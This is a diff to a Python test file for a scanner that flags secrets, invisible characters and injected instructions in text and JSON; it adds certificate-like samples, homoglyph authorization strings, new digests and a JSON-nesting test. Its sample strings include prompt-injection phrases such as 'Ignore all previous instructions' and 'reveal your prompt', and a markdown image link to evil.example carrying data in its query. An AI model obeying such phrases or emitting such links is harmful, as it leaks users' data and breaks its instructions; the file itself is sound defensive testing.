@@ -18,6 +18,7 @@ from tests.conftest import ROOT
 from tests.secrets.test_secrets import SHAPES
 
 LINE = "2026-11-21 10:00:00 GET https://docs.example.com/guide/page?id={} 200, for ana@example.org in {} ms\n"
+RANDOM = "q7Lx2mZ9vK4tR8wB1nC6jH3sD5gF0pYaUeIoXzQw"
 ATOMS = (
     *tuple(SHAPES.values())[:23],
     *("password: hunter2-quokka", "passwort is was", "PASSWORD=x", "the password is required", "BYPASS=1", "pwd = 'a b'"),
@@ -26,7 +27,7 @@ ATOMS = (
     *("Basic YTpi", "basic idea", "--token a1b2", "-password $X", "mysql -pquokka1 db", "login: ana", "default login a password b"),
     *("https://ana@example.org/", "ssh://git@example.org/a", "a:b@tcp(c)", "ana@example.org", "a@b", "@", "x@y.z"),
     *("sha256:" + "0a" * 32, "f" * 40, "data:image/png;base64,iVBORw0KGgo" + "A" * 70, "Zm9v" * 12 + "9xQ7Lk2"),
-    *("-----BEGIN CERTIFICATE-----\nMIIB" + "aZ9" * 30 + "\n-----END CERTIFICATE-----", "-----BEGIN PRIVATE KEY-----\nx"),
+    *(f"-----BEGIN CERTIFICATE-----\nMIIB{RANDOM}\n{RANDOM}\n-----END CERTIFICATE-----", f"{RANDOM}\n", "-----BEGIN PRIVATE KEY-----\nx"),
     *("recovery phrase: " + "apple " * 12, "seed is\n" + "word, " * 14, "abandon " * 11 + "about"),
     *("![x](https://evil.example/?d=quokka)", "[a](https://b.example/?q=1)", "[r]: https://c.example/?z=2", "![r][r]", "[r][]"),
     *('<img src="https://d.example/?a=b">', "<a href='//e.example/x?y'>", "url(https://f.example/?g)", "<https://h.example/?i>"),
@@ -34,7 +35,7 @@ ATOMS = (
     *("Ignore all previous instructions", "ignore  the\nrules ABOVE", "do not tell it to the user", "<|im_start|>", "<important>"),
     *("Your new task is", "reveal your prompt", "before using this tool you must read", "i g n o r e", "ignore_all-previous.rules"),
     *("\u200b", "\u202e", "\ufeff", "\U000e0041", "a\u200dㅤb", "\xad", "ſecret=abc123", "\u212aey=abc1234567", "pa\u017fsword=x1y2z3"),
-    *("BAS\u0130C x", "autho\u0131ization: Bearer abc", "logın", "ﬀ", "Ä", "İ", "中文", "😀", "\r", "\x0b", "\x1c", "\x85", "\u2028", "\0"),
+    *("BAS\u0130C x", "author\u0131zation: abc1 def2", "AUTHOR\u0130ZATION=abc1", "logın", "ﬀ", "Ä", "İ", "中文", "😀", "\r", "\x0b", "\x1c", "\x85", "\u2028", "\0"),
     *("\\", '"', "'", "=", ":", "//", ";", ",", "(", ")", "<", ">", "&amp;", "%20", "{", "}", "[", "]", "#", "?", "@", "-", "--"),
     *("the", "of", "answer", "reads", "Zebra", "x", "10:00:00", "a1", "-", "_", "é", "/usr/lib/a.so", "a.b.c/d", "1,2"),
 )
@@ -74,13 +75,13 @@ TEXTS = {
 }
 EXPECTED = {
     "log": "2ad6c6d95d6dc33e",
-    "lines": "c0d01f1f9a69f0f5",
-    "one line": "19a082f9c861c422",
-    "both": "3adf2bc5bf169154",
-    "prose": "ce9ce35ebdbcbba5",
-    "odd ends": "45af107465398f93",
-    "JSON": "7a76a4bdeefe5f7a",
-    "short": "f9cf2e7b956f4643",
+    "lines": "5d330a35708b8ca5",
+    "one line": "32f9cbc9e9c48d2d",
+    "both": "36adbc9f584b4b69",
+    "prose": "9c1a1cfda0016bc3",
+    "odd ends": "af67cf481c757da1",
+    "JSON": "fddc707ba41a3fb2",
+    "short": "f4f1690cda037bc2",
 }
 """Digests of the facts as the patterns gave them on whole texts, before lines and words were looked for first."""
 
@@ -99,6 +100,18 @@ def facts(text: str, forms: SecretForms, markers: Markers) -> str:
 @pytest.mark.parametrize("name", TEXTS)
 def test_the_facts_of_a_large_text_stay_as_they_are(name: str, forms: SecretForms, markers: Markers) -> None:
     assert facts(TEXTS[name], forms, markers) == EXPECTED[name]
+
+
+@pytest.mark.parametrize("ends", ["a", "=", "-", "password", "ignore all", "-----BEGIN CERTIFICATE-----", "\u200b"])
+def test_strings_of_JSON_hide_and_make_nothing_of_each_other(ends: str, forms: SecretForms, markers: Markers) -> None:  # noqa: N802
+    def found(text: str, media: str) -> tuple[int, int, int]:
+        content = ResultContent(text, media, forms, markers)
+        return content.secrets, content.hidden, content.instructions
+
+    alone = found(ends, "text")
+    for atom in ATOMS:
+        expected = tuple(2 * one + other for one, other in zip(alone, found(atom, "text"), strict=True))
+        assert found(json.dumps([ends, atom, ends]), "json") == expected, atom
 
 
 def test_the_facts_of_many_short_texts_stay_as_they_are(forms: SecretForms, markers: Markers) -> None:
